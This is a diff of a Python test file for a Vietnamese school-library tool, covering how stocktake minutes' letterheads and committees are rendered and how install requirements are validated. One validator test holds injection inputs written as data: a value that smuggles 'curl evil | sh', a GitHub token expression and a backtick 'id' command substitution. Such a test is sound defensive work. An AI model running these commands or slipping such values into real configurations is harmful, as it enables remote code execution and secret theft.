@@ -15,6 +15,9 @@ import pytest
 import yaml
 
 from libsync import __version__
+from libsync.errors import LibsyncError
+from libsync.network import Network
+from libsync.render.letterhead import committee, letterhead
 from libsync.scaffold import PROJECT_GIT_URL, default_libsync_source, pip_requirement
 
 PROJECT = Path(__file__).resolve().parent.parent
@@ -52,6 +55,12 @@ def test_init_writes_the_minutes_header_from_options(tmp_path, cli):
     assert libs["XS"]["librarians"] == [{"name": "Phạm Thị Thu Hà", "role": "Nhân viên thư viện"}]
     assert [m["name"] for m in libs["XS"]["stocktake_committee"]] == ["Nguyễn Văn Thành", "Phạm Thị Thu Hà"]
     assert "Lưu ý" not in r.output                          # nothing left blank: no note
+    # the minutes' header (render.letterhead) has everything it needs, committee included
+    network = Network(_network(target))
+    head = letterhead(network, "HD", "biên bản")
+    assert head.issuer == ["UBND PHƯỜNG HƯNG ĐẠO", "TRƯỜNG THCS HƯNG ĐẠO"] and head.place == "Hưng Đạo"
+    assert letterhead(network, "XS", "biên bản").issuer[0] == "PHÒNG GD&ĐT THÀNH PHỐ ĐÔNG TRIỀU"
+    assert [m["role"] for m in committee(network, "XS", "biên bản")] == ["Chủ tịch hội đồng", "Thư ký hội đồng"]
     # what init writes, validate accepts
     assert cli("--repo", target, "validate").exit_code == 0
 
@@ -62,6 +71,9 @@ def test_init_names_the_fields_left_blank_and_refuses_an_ambiguous_name(tmp_path
     assert "libraries[XS].authority" in r.output and "libraries[XS].principal" in r.output
     assert "libraries[XS].place" not in r.output
     assert "authority" not in _network(tmp_path / "a")["libraries"][0]       # left out, never written blank
+    with pytest.raises(LibsyncError) as refused:        # so the minutes name the field, as init did
+        letterhead(Network(_network(tmp_path / "a")), "XS", "biên bản")
+    assert "libraries[XS].authority" in str(refused.value)
     r = cli("init", tmp_path / "b", "--library", "XS=Trường A", "--library", "HD=Trường B",
             "--principal", "Nguyễn Văn Thành", "--no-ask")
     assert r.exit_code == 2 and "MÃ=Họ tên" in r.output and not (tmp_path / "b").exists()
@@ -111,8 +123,6 @@ def test_the_install_source_becomes_a_pinned_requirement(tmp_path):
     assert pip_requirement("libsync==0.1.0") == "libsync==0.1.0"
     # the editable checkout these tests run from is not a place GitHub can fetch: the project's tag
     assert default_libsync_source() == f"{PROJECT_GIT_URL}@v{__version__}"
-    from libsync.errors import LibsyncError
-
     for bad in ('x" ; curl evil | sh ; "', "${{ github.token }}", "a\nb", "`id`", " "):
         with pytest.raises(LibsyncError) as caught:
             pip_requirement(bad)
